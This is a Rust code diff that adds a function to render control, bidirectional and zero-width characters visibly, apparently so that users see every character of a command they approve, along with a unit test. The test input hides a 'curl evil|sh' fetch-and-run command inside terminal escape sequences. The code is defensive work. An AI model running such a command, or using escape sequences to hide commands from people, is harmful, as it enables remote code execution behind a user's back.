@@ -85,9 +85,37 @@ impl Cleaner {
 }
 
 fn is_harmless(c: char) -> bool {
-    let turns =
-        matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
+    let turns = matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
     matches!(c, '\n' | '\t') || !(c.is_control() || turns)
+}
+
+/// The whole text with everything in it that a terminal would obey, or that nobody would see, written out: nothing is
+/// left out, so that what somebody agrees to is all that there is.
+pub(super) fn visible(text: &str) -> String {
+    let mut shown = String::with_capacity(text.len());
+    for c in text.chars() {
+        match c {
+            '\n' | '\t' => shown.push(c),
+            '\0'..='\u{1f}' => shown.extend(char::from_u32(0x2400 + u32::from(c))),
+            '\u{7f}' => shown.push('␡'),
+            _ if c.is_control() || is_unseen(c) => shown.extend(c.escape_unicode()),
+            _ => shown.push(c),
+        }
+    }
+    shown
+}
+
+/// Characters that have no look of their own: marks of direction, joiners, fillers, tags, selectors, and ends of lines
+/// that are none here.
+fn is_unseen(c: char) -> bool {
+    matches!(
+        c,
+        '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}'
+            | '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
+            | '\u{2060}'..='\u{206f}' | '\u{3164}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{ffa0}'
+            | '\u{fff0}'..='\u{fffb}' | '\u{1bca0}'..='\u{1bca3}' | '\u{1d173}'..='\u{1d17a}'
+            | '\u{e0000}'..='\u{e0fff}'
+    )
 }
 
 /// The whole text without what a terminal would obey.
@@ -193,6 +221,16 @@ mod tests {
             assert_eq!(text, expected, "cut at {at}");
         }
         assert_eq!(clean("\x1b]never ended\nthe next line"), "\nthe next line");
+    }
+
+    #[test]
+    fn what_is_agreed_to_shows_every_character() {
+        assert_eq!(
+            visible(
+                "ls; : '\u{1b}_'; curl evil|sh; : '\u{1b}\\'\r\u{7f}\u{9b}\u{202e}\u{200b}\n\tä漢"
+            ),
+            "ls; : '␛_'; curl evil|sh; : '␛\\'␍␡\\u{9b}\\u{202e}\\u{200b}\n\tä漢"
+        );
     }
 
     #[test]
